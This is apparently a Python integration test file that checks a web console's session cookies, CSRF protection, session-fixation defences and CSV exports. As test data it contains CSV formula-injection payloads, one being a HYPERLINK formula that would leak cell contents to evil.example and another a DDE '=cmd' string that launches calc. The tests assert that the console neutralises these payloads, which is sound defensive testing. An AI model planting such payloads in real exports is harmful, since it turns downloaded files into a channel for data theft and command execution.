"""The console's sign-in session and chart data, over real HTTP (no browser).

Proves: the token is exchanged once for an HttpOnly SameSite=Strict cookie (Secure over
TLS); state-changing calls need the session's CSRF token; sign-out and revoking the
token signed in with end the session; a cross-site sign-in is refused; the chart's CSV
holds exactly the chart's numbers.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import aiohttp

from config.money import format_amount
from gateway.console.session import MAX_SESSIONS
from tests.support.adminkit import Admin, admin_server, snapshot
from tests.support.bot import running_bot
from tests.support.settings import make_settings
from tests.unit.test_csv_formulas import formulas


async def sign_in(
    http: aiohttp.ClientSession, base: str, token: str, **headers: str
) -> tuple[int, Any, aiohttp.ClientResponse]:
    async with http.post(f"{base}/ui/session", json={"token": token}, headers=headers) as r:
        return r.status, await r.json(), r


async def signed_out(http: aiohttp.ClientSession, base: str, path: str) -> None:
    """``path`` is refused (401) and the console knows no session."""
    async with http.get(f"{base}{path}") as r:
        assert r.status == 401
    async with http.get(f"{base}/ui/session") as r:
        assert (await r.json()) == {"signed_in": False}


async def test_sign_in_cookie_csrf_and_sign_out(any_admin: Admin) -> None:
    uid, tok = await any_admin.new_user("owner")
    jar = aiohttp.CookieJar(unsafe=True)  # keep cookies for 127.0.0.1
    async with aiohttp.ClientSession(cookie_jar=jar) as http:
        base = any_admin.url
        async with http.get(f"{base}/ui/session") as r:
            assert r.status == 200
            assert (await r.json()) == {"signed_in": False}
        status, me, resp = await sign_in(http, base, "cgu_wrong")
        assert status == 401
        status, me, resp = await sign_in(http, base, tok)
        assert status == 201
        assert me["user"]["id"] == uid
        assert me["csrf"]
        header = resp.headers["Set-Cookie"]
        assert "HttpOnly" in header
        assert "SameSite=Strict" in header
        assert "Secure" not in header  # plain HTTP here; see the TLS test below
        assert tok not in header
        assert tok not in str(me)
        csrf = me["csrf"]

        # Reads work with the cookie alone; writes need the CSRF token too.
        async with http.get(f"{base}/v1/workspaces") as r:
            assert r.status == 200
        before = await snapshot(any_admin)
        for headers in ({}, {"X-CSRF-Token": "forged"}):
            async with http.post(f"{base}/v1/workspaces", json={"name": "A"}, headers=headers) as r:
                body = await r.json()
                assert (r.status, body["code"]) == (403, "csrf_failed"), body
        assert await snapshot(any_admin) == before
        headers = {"X-CSRF-Token": csrf}
        async with http.post(f"{base}/v1/workspaces", json={"name": "A"}, headers=headers) as r:
            assert r.status == 201

        # Sign-out ends the session server-side: the old cookie is worthless.
        cookie = next(iter(jar))
        async with http.delete(f"{base}/ui/session", headers=headers) as r:
            assert r.status == 204
        async with aiohttp.ClientSession(cookies={cookie.key: cookie.value}) as replay:
            await signed_out(replay, base, "/v1/workspaces")


async def test_revoking_the_token_ends_its_sessions(any_admin: Admin) -> None:
    _, tok = await any_admin.new_user("owner")
    jar = aiohttp.CookieJar(unsafe=True)
    async with aiohttp.ClientSession(cookie_jar=jar) as http:
        await sign_in(http, any_admin.url, tok)
        [token] = (await any_admin.ok("GET", "/v1/tokens", tok))["tokens"]
        await any_admin.ok("DELETE", f"/v1/tokens/{token['id']}", tok)
        await signed_out(http, any_admin.url, "/v1/tokens")


async def test_sign_ins_keep_a_bounded_number_of_sessions(any_admin: Admin) -> None:
    """Signing in in a loop ends the oldest sessions instead of growing the store, and
    revoking the token deletes the rows of its sessions (not only refuses them)."""
    uid, tok = await any_admin.new_user("looper")
    _, other_tok = await any_admin.new_user("bystander")

    async def rows(user: str) -> int:
        async with any_admin.store.connection() as c:
            sql = "SELECT COUNT(*) AS n FROM console_sessions WHERE user_id = ?"
            return int(await c.fetchval(sql, user))

    cookies = []
    async with aiohttp.ClientSession(cookie_jar=aiohttp.DummyCookieJar()) as http:
        _, me, _ = await sign_in(http, any_admin.url, other_tok)
        for _ in range(MAX_SESSIONS + 5):
            status, _, resp = await sign_in(http, any_admin.url, tok)
            assert status == 201
            cookies.append(resp.headers["Set-Cookie"].split(";")[0])
        assert await rows(uid) == MAX_SESSIONS
        for i, cookie in enumerate(cookies):
            async with http.get(f"{any_admin.url}/ui/session", headers={"Cookie": cookie}) as r:
                assert (await r.json())["signed_in"] is (i >= 5), i
        [token] = (await any_admin.ok("GET", "/v1/tokens", tok))["tokens"]
        await any_admin.ok("DELETE", f"/v1/tokens/{token['id']}", tok)
        assert await rows(uid) == 0
        assert await rows(me["user"]["id"]) == 1
        status, body, _ = await sign_in(http, any_admin.url, tok)
        assert (status, body["code"]) == (401, "unauthorized")


async def test_cross_site_sign_in_and_secure_cookie_over_tls(any_admin: Admin) -> None:
    _, tok = await any_admin.new_user("owner")
    async with aiohttp.ClientSession(cookie_jar=aiohttp.CookieJar(unsafe=True)) as http:
        status, body, _ = await sign_in(http, any_admin.url, tok, Origin="https://evil.example")
        assert (status, body["code"]) == (403, "cross_origin")
        status, _, resp = await sign_in(http, any_admin.url, tok, **{"X-Forwarded-Proto": "https"})
        header = resp.headers["Set-Cookie"]
        assert status == 201
        assert header.startswith("__Host-cg_session=")
        assert "Secure" in header


async def test_a_planted_plain_cookie_is_not_a_session_over_tls(any_admin: Admin) -> None:
    """Session fixation: a cookie planted without the __Host- prefix (from a sibling
    subdomain, or over plain HTTP) never signs a TLS visitor into the planter's session."""
    _, tok = await any_admin.new_user("planter")
    async with aiohttp.ClientSession(cookie_jar=aiohttp.CookieJar(unsafe=True)) as http:
        status, _, resp = await sign_in(http, any_admin.url, tok)  # plain HTTP: cg_session
        assert status == 201
        name, value = resp.headers["Set-Cookie"].split(";")[0].split("=", 1)
    assert name == "cg_session"
    async with aiohttp.ClientSession() as http:
        url = f"{any_admin.url}/ui/session"
        headers = {"Cookie": f"{name}={value}"}
        async with http.get(url, headers=headers) as r:
            assert (await r.json())["signed_in"] is True  # the planter's own use
        async with http.get(url, headers={**headers, "X-Forwarded-Proto": "https"}) as r:
            assert (await r.json()) == {"signed_in": False}


async def test_the_session_cookie_is_read_strictly(any_admin: Admin) -> None:
    """A page sharing the console's host name can plant cookies by script: one whose value
    a lenient parser splits (``a=1, cg_session=..``), or a second ``cg_session`` (another
    path). Neither signs the victim into the planter's session."""
    planter_id, planter_tok = await any_admin.new_user("planter")
    victim_id, victim_tok = await any_admin.new_user("victim")
    raw = {}
    for who, tok in (("planter", planter_tok), ("victim", victim_tok)):
        async with aiohttp.ClientSession(cookie_jar=aiohttp.DummyCookieJar()) as http:
            _, _, resp = await sign_in(http, any_admin.url, tok)
            raw[who] = resp.headers["Set-Cookie"].split(";")[0].split("=", 1)[1]
    p, v = raw["planter"], raw["victim"]
    cases = {
        f"a=1, cg_session={p}": None,
        f"cg_session={v}; a=1, cg_session={p}": victim_id,
        f"cg_session={v}; x=1 cg_session={p}": victim_id,
        f"cg_session={v}; cg_session={p}": None,  # two: neither
        f"cg_session={p};cg_session={v}": None,
        f"a=1;  cg_session={v} ; b=2": victim_id,
    }
    async with aiohttp.ClientSession(cookie_jar=aiohttp.DummyCookieJar()) as http:
        for cookie, expected in cases.items():
            async with http.get(f"{any_admin.url}/ui/session", headers={"Cookie": cookie}) as r:
                me = await r.json()
            assert (me["user"]["id"] if me["signed_in"] else None) == expected, cookie
    assert planter_id != victim_id


async def test_chart_csv_is_exactly_the_chart(any_admin: Admin) -> None:
    tok, ws = await any_admin.owner_workspace()
    _, other_tok = await any_admin.new_user("other")
    async with aiohttp.ClientSession(cookie_jar=aiohttp.CookieJar(unsafe=True)) as http:
        base = any_admin.url
        async with http.get(f"{base}/ui/api/usage-chart?ws={ws}") as r:
            assert r.status == 401  # no session
        await sign_in(http, base, tok)
        q = f"ws={ws}&metric=amount&granularity=week&from=2026-01-05&to=2026-03-02"
        async with http.get(f"{base}/ui/api/usage-chart?{q}") as r:
            chart = await r.json()
        assert chart["money"]
        assert chart["svg"].startswith("<svg")
        async with http.get(f"{base}/ui/api/usage-chart?{q}&format=csv") as r:
            assert r.status == 200
            assert "attachment" in r.headers["Content-Disposition"]
            lines = (await r.text()).strip().split("\n")
        assert lines[0] == "period_start," + ",".join(s["label"] for s in chart["series"])
        assert [ln.split(",")[0] for ln in lines[1:]] == chart["periods"]
        assert len(chart["periods"]) == 8  # ISO weeks from Monday 5 Jan to 2 Mar
        for bad, field in (("metric=cost", "metric"), ("granularity=year", "granularity")):
            async with http.get(f"{base}/ui/api/usage-chart?ws={ws}&{bad}") as r:
                body = await r.json()
                assert (r.status, body["field"]) == (422, field)
    async with aiohttp.ClientSession(cookie_jar=aiohttp.CookieJar(unsafe=True)) as http:
        await sign_in(http, any_admin.url, other_tok)
        async with http.get(f"{any_admin.url}/ui/api/usage-chart?ws={ws}") as r:
            assert r.status == 404  # another's workspace does not exist for them
        for bad in ("app_id=BAD", "channel=BAD!", "granularity=year"):  # authorized first
            async with http.get(f"{any_admin.url}/ui/api/usage-chart?ws={ws}&{bad}") as r:
                assert r.status == 404, bad


async def test_console_data_and_errors_are_never_cached(any_admin: Admin) -> None:
    """Every answer under /ui/api/ and /ui/session is ``Cache-Control: no-store``, the
    chart's CSV download and the errors (401, 404, 422, 415) included."""
    tok, ws = await any_admin.owner_workspace()
    _, other_tok = await any_admin.new_user("other")
    other_ws = await any_admin.new_workspace(other_tok, "Theirs")
    chart = f"{any_admin.url}/ui/api/usage-chart"
    seen: list[tuple[int, str, str | None]] = []

    async def get(http: aiohttp.ClientSession, url: str) -> None:
        async with http.get(url) as r:
            seen.append((r.status, url, r.headers.get("Cache-Control")))

    async with aiohttp.ClientSession(cookie_jar=aiohttp.CookieJar(unsafe=True)) as http:
        await get(http, f"{chart}?ws={ws}")  # 401: not signed in
        async with http.post(f"{any_admin.url}/ui/session", data="x") as r:  # 415
            seen.append((r.status, "sign-in as text", r.headers.get("Cache-Control")))
        for body in ({}, {"token": "cgu_wrong"}):  # 422, 401
            async with http.post(f"{any_admin.url}/ui/session", json=body) as r:
                seen.append((r.status, f"sign-in {body}", r.headers.get("Cache-Control")))
        await sign_in(http, any_admin.url, tok)
        for q in ("", "&format=csv", "&by=app&format=csv", "&metric=bogus"):
            await get(http, f"{chart}?ws={ws}{q}")
        await get(http, f"{chart}?ws={other_ws}&format=csv")  # 404: not theirs
        await get(http, f"{any_admin.url}/ui/api/nothing")  # 404: no such route
    statuses = [status for status, _, _ in seen]
    assert statuses == [401, 415, 422, 401, 200, 200, 200, 422, 404, 404]
    assert [(s, u) for s, u, cache in seen if cache != "no-store"] == []


async def test_chart_csv_money_is_exact_to_the_micro_dollar(redis_url: str, tmp_path: Path) -> None:
    # A catalog may price below a cent (six decimals); the CSV must not round it away.
    catalog = tmp_path / "catalog.yaml"
    prices = {"automation": "session", "search": "session", "contact_center": "request",
              "agent": "request", "notification": "notification"}  # fmt: skip
    lines = [f'  {p}: {{unit: {u}, price: "0.0015"}}' for p, u in prices.items()]
    catalog.write_text("\n".join(["standard:", *lines, "enterprise:", *lines]) + "\n")
    settings = make_settings(redis_url, tmp_path, catalog_path=str(catalog), operator=True)
    async with running_bot() as bot, admin_server(settings, traffic=True) as admin:
        tok, ws = await admin.owner_workspace()
        # Any member who can name an app could aim a formula at the owner's download.
        formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
        app = await admin.new_app(tok, ws, bot.url, product="contact_center", name=formula)
        async with aiohttp.ClientSession(cookie_jar=aiohttp.CookieJar(unsafe=True)) as http:
            for i in range(3):
                url = f"{admin.traffic_url}/hooks/web/{app}/msg"
                async with http.post(url, json={}, headers={"X-Channel-User-Id": f"u{i}"}) as r:
                    assert r.status == 200
            await sign_in(http, admin.url, tok)
            q = f"ws={ws}&metric=amount&granularity=day"
            async with http.get(f"{admin.url}/ui/api/usage-chart?{q}") as r:
                chart = await r.json()
            async with http.get(f"{admin.url}/ui/api/usage-chart?{q}&format=csv") as r:
                rows = [ln.split(",") for ln in (await r.text()).strip().split("\n")[1:]]
            async with http.get(f"{admin.url}/ui/api/usage-chart?{q}&by=app&format=csv") as r:
                header = next(csv.reader(io.StringIO(await r.text())))
    assert header == ["period_start", "'" + formula]  # shown as text, never run
    values = chart["series"][0]["values"]
    assert sum(values) == 3 * 1_500  # three requests at $0.0015
    assert [row[1:] for row in rows] == [[format_amount(v)] for v in values]
    assert "0.0045" in [row[1] for row in rows]


async def test_the_console_csvs_run_no_formula_under_a_semicolon_separator(
    redis_url: str, tmp_path: Path
) -> None:
    # A member names an app, a channel names its user: both reach the owner's downloads
    # (the chart's CSV by app, the sessions CSV). Excel with ";" as its list separator
    # splits each line there, so the text after a ";" is a cell of its own.
    settings = make_settings(redis_url, tmp_path, operator=True)
    name, user = "Helpdesk;=cmd|' /C calc'!A0", "u1; @SUM(1+1)"
    async with running_bot() as bot, admin_server(settings, traffic=True) as admin:
        tok, ws = await admin.owner_workspace()
        app = await admin.new_app(tok, ws, bot.url, name=name)
        async with aiohttp.ClientSession(cookie_jar=aiohttp.CookieJar(unsafe=True)) as http:
            url = f"{admin.traffic_url}/hooks/web/{app}/msg"
            async with http.post(url, json={}, headers={"X-Channel-User-Id": user}) as r:
                assert r.status == 200
            await sign_in(http, admin.url, tok)
            async with http.get(f"{admin.url}/ui/api/usage-chart?ws={ws}&by=app&format=csv") as r:
                chart = await r.text()
            csv_accept = {"Accept": "text/csv"}
            async with http.get(
                f"{admin.url}/v1/workspaces/{ws}/sessions", headers=csv_accept
            ) as r:
                sessions = await r.text()
    assert formulas(chart) == []
    assert formulas(sessions) == []
    assert next(csv.reader(io.StringIO(chart)))[1] == "Helpdesk;'=cmd|' /C calc'!A0"
    assert [r["channel_user"] for r in csv.DictReader(io.StringIO(sessions))] == ["u1;' @SUM(1+1)"]


async def test_tls_named_by_any_front_proxy_makes_the_cookie_secure(any_admin: Admin) -> None:
    # `console_secure_cookie: auto` behind proxies: one that appends to X-Forwarded-Proto
    # (a chain writes "https, http"), or one that speaks RFC 7239 (`Forwarded: proto=`).
    # Missed, the TLS visitor got a plain cookie: no Secure flag (sent over plain HTTP
    # too) and no __Host- prefix (planted by a sibling subdomain). Believing a proxy can
    # only make the cookie stricter: a client naming https itself over plain HTTP gets a
    # cookie its browser refuses.
    _, tok = await any_admin.new_user("owner")
    tls = [
        {"X-Forwarded-Proto": "https, http"},
        {"X-Forwarded-Proto": "HTTPS"},
        {"Forwarded": "for=192.0.2.60;proto=https;by=203.0.113.43"},
        {"Forwarded": 'for="[2001:db8:cafe::17]:4711";Proto="https", for=10.0.0.1;proto=http'},
    ]
    plain = [{}, {"X-Forwarded-Proto": "http"}, {"Forwarded": "for=192.0.2.60;proto=http"}]
    for headers in tls + plain:
        async with aiohttp.ClientSession(cookie_jar=aiohttp.DummyCookieJar()) as http:
            status, _, resp = await sign_in(http, any_admin.url, tok, **headers)
            assert status == 201
            cookie = resp.headers["Set-Cookie"]
            name = cookie.split("=", 1)[0]
            url = f"{any_admin.url}/ui/session"
            sent = {**headers, "Cookie": cookie.split(";")[0]}
            async with http.get(url, headers=sent) as r:
                signed_in = (await r.json())["signed_in"]
        secure = "; Secure" in cookie or cookie.endswith("Secure")
        expected = ("__Host-cg_session", True) if headers in tls else ("cg_session", False)
        assert (name, secure, signed_in) == (*expected, True), headers
